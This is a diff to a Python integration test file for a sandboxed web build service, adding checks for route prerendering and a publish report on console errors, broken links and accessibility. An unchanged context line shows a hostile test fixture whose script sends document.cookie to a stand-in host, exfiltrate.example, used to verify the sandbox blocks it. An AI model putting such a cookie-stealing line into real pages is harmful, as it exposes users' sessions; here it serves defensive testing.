@@ -19,6 +19,7 @@ import urllib.error
 import urllib.request
 import uuid
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -239,6 +240,8 @@ def test_a_hostile_vue_project_builds_in_the_box_with_nothing_but_its_own_object
             "new Image().src = 'https://exfiltrate.example/?k=' + document.cookie\n"
         ).encode()
         build = vue_build(files)
+        told: list[tuple[str, str, list[str]]] = []
+        cloud["builder"].routes = lambda app, bid, routes: told.append((app, bid, routes))
         done, outcome, variables = run_build(cloud, build, installed_toolchain, tmp_path)
     finally:
         secret.close()
@@ -252,6 +255,14 @@ def test_a_hostile_vue_project_builds_in_the_box_with_nothing_but_its_own_object
     site = {k.removeprefix(prefix) for k in objects if k.startswith(prefix)}
     assert "index.html" in site and any(p.startswith("assets/") for p in site)
     assert objects[prefix + handoff.COVER_PATH].startswith(handoff.PNG_MAGIC)  # a deploy
+    # A deploy's routes are prerendered in the box (issue 44): its about view is HTML, the
+    # page as built is the shell, and the routes are told for the sites' router.
+    assert {"about/index.html", ".shell.html"} <= site, site
+    assert b"<h1>About</h1>" in objects[prefix + "about/index.html"]
+    assert b'<head><base href="/">' in objects[prefix + "index.html"]
+    assert b'<div id="app"></div>' in objects[prefix + ".shell.html"]
+    assert told == [("app1", build.build_id, ["/about"])]
+    assert "zerocode: prerendered 2 route(s): / /about" in outcome.log_tail
     assert cloud["builder"].cover("app1", build.build_id) == handoff.COVER_PATH
     # The build's check found nothing wrong: what the confinement blocked is not the page's.
     assert BuildCheckResult(cloud["s3"], cloud["bucket"]).read("app1", build.build_id) == []
@@ -264,6 +275,7 @@ def test_a_hostile_vue_project_builds_in_the_box_with_nothing_but_its_own_object
         "ZEROCODE_BUILD_ID",
         "ZEROCODE_KIND",
         "ZEROCODE_PREVIEW",
+        "ZEROCODE_OWN_ORIGIN",
         handoff.BUCKET_VARIABLE,
     }
     assert not any(v.startswith("http") or "Amz" in v for v in variables.values()), variables
@@ -537,3 +549,57 @@ def test_the_images_warm_up_makes_a_read_only_compile_cache_builds_use(
     site = tmp_path / "site"
     assert buildbox_run._build(job, files, tmp_path / "app", site, log), list(log.lines)
     assert (site / "index.html").is_file()
+
+
+REPORTED_PAGE = b"""<!doctype html><html lang="en"><head><meta charset="utf-8">
+<title>Birds</title></head><body><main><h1>Birds</h1><img src="bird.png">
+<script src="missing.js"></script>
+<script>
+const a = document.createElement("a");
+a.href = "/drawn-by-script.html"; a.textContent = "more birds";
+document.querySelector("main").append(a);
+console.error("zerocode-report-console-line");
+</script></main></body></html>"""
+
+
+def test_a_deploys_box_looks_at_its_page_for_the_publish_report(
+    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path
+) -> None:
+    """Issue 44, point 5 on AWS: a deploy build's box loads its page once more for the
+    publish report (box_report.py: the local report's own page code, in the box's confined
+    Chromium) and hands back what it saw; the platform merges it with its checks of the
+    site's files. In process, so coverage sees the box's part."""
+    from tests.integration.adapters.test_codebuild_report import Reports
+
+    builder: CodeBuildBuilder = cloud["builder"]
+    builder.reports = store = Reports()
+    build = BuildJob(
+        app_id="app1",
+        build_id=new_build_id(),
+        kind=CodeGenType.HTML,
+        source=Snapshot.of({"index.html": REPORTED_PAGE, "bird.png": handoff.PNG_MAGIC}),
+    )
+    done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path, in_process=True)
+    assert done.returncode == 0 and outcome.ok, done.stdout[-3000:]
+    assert "publish report's look at the page:" in done.stdout
+    report = store.kept[build.build_id]
+    checks = {c.id: c for c in report.checks}
+    assert checks["console"].passed is False
+    assert any("zerocode-report-console-line" in d for d in checks["console"].details)
+    assert not any("127.0.0.1" in d for c in report.checks for d in c.details)
+    links = "\n".join(checks["links"].details)
+    assert "home page (rendered) → /drawn-by-script.html (not in the site)" in links, links
+    assert "index.html → missing.js (not in the site)" in links, links  # its 404: once
+    assert "HTTP 404" not in links, links
+    assert checks["a11y"].passed is False
+    assert any(d.startswith("image-alt (critical)") for d in checks["a11y"].details)
+    assert "CloudFront" in (checks["compression"].note or "")
+    assert_nothing_leaked(cloud, done, tmp_path, list(CANARIES.values()))
+    # A preview's box takes no such look: previews get no report.
+    preview = replace(build, build_id=new_build_id(), preview=True)
+    (tmp_path / "p").mkdir()
+    done, outcome, _ = run_build(
+        cloud, preview, installed_toolchain, tmp_path / "p", in_process=True
+    )
+    assert outcome.ok and "publish report" not in done.stdout
+    assert preview.build_id not in store.kept
